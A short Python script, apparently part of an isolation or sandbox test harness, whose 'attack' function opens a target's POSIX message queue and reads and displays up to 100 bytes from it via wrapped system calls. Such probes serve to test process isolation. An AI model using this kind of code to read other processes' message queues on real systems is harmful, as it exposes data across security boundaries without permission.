import ctypes
import os

from calls import call
from inside import run, show


def attack(target):
    queue = call("mq_open", target.queue.encode(), os.O_RDONLY | os.O_NONBLOCK, 0, 0)
    buffer = ctypes.create_string_buffer(100)
    call("mq_timedreceive", queue, buffer, 100, 0, 0)
    show(buffer.raw)


run(attack)
